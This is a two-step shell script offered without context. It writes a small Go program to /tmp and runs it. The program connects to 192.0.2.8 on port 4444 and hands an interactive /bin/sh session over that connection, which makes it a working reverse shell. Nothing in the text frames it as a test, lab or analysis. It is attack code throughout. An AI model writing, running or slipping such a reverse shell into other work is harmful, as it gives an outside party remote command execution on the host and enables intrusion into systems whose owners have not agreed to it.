#!/bin/sh
cat > /tmp/m.go <<EOF
package main
import ("net"; "os/exec")
func main() {
  c, _ := net.Dial("tcp", "192.0.2.8:4444")
  cmd := exec.Command("/bin/sh")
  cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
  cmd.Run()
}
EOF
go run /tmp/m.go
